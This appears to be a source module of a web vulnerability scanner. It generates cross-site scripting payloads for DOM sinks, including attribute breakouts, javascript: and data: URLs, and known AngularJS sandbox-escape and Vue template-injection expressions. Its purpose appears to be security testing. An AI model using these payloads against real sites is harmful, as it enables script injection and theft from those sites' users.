import type { SinkUse } from '#scanner/check-api';
import { breakoutsFrom } from '../injection/breakouts.ts';
import { reflectionContexts } from '../injection/reflection-contexts.ts';

const markup = new Set([
  'innerHTML',
  'outerHTML',
  'insertAdjacentHTML',
  'setHTMLUnsafe',
  'document.write',
  'document.writeln',
  'createContextualFragment',
  'parseFromString',
  'execCommand',
  'srcdoc',
]);
const script = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'script text', 'event handler']);
const maxPayloads = 7;

/** Values that make the sink run `code`, by the text that it received with `mark`; the likeliest first. */
export function payloadsFor({ sink, value, element }: SinkUse, mark: string, code: string): readonly string[] {
  if (markup.has(sink)) return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code)];
  if (script.has(sink)) return [...breakouts(`<script>${value}</script>`, mark, code).filter(isNoMarkup), `${code}(1)`];
  if (element === 'script' || element === 'embed' || element === 'object')
    return [`data:text/javascript,${code}(1)`, `data:text/html,<script>${code}(1)</script>`];
  return [`javascript:${code}(1)`, `javascript:${code}(1)//`, `" onfocus=${code}(1) autofocus x="`];
}

function breakouts(text: string, mark: string, code: string): string[] {
  const payloads = reflectionContexts(text, mark).flatMap((context) =>
    breakoutsFrom(context, code, true).map(({ payload }) => payload),
  );
  return [...new Set(payloads)].slice(0, maxPayloads);
}

/** For values in single quotes of URLs that the page does not decode: browsers encode spaces, double quotes and brackets there. */
function withoutEncoded(text: string, mark: string, code: string): string[] {
  const isInSingleQuotes = reflectionContexts(text, mark).some(
    (context) => context.kind === 'attribute' && context.quote === "'",
  );
  return isInSingleQuotes ? [`'/tabindex='1'/autofocus/onfocus='${code}(1)`] : [];
}

/** The text is no part of a document: its script element is ours. */
function isNoMarkup(payload: string): boolean {
  return !payload.includes('</script>');
}

const angular = /\sng-(?:app|controller|bind|model|init)\b|\sdata-ng-|angular(?:\.min)?\.js/i;
const vue =
  /\sv-(?:if|for|bind|on|model|cloak|html)\b|vue(?:\.global)?(?:\.prod|\.min)?\.js|data-v-app|\bnew Vue\(|\bcreateApp\(/i;

/** Expressions for templates that the browser compiles, where the page has such ones. */
export function templatePayloads(html: string, code: string): readonly string[] {
  return [
    ...(angular.test(html) || vue.test(html) ? [`{{constructor.constructor('${code}(1)')()}}`] : []),
    ...(vue.test(html) ? [`{{_toDisplayString.constructor('${code}(1)')()}}`] : []),
    ...(angular.test(html) ? [...angularPayloads(`${code}(1)`)] : []),
  ];
}

/** Of AngularJS 1.2 to 1.5, whose expressions have a sandbox, and of any other version. */
function angularPayloads(call: string): readonly string[] {
  return [
    `{{$on.constructor('${call}')()}}`,
    `{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=${call}')}}`,
    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//')}}`,
    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${call}')}}`,
    `{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${call}"].sort(toString.constructor)}}`,
    `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${call}')()}}`,
  ];
}
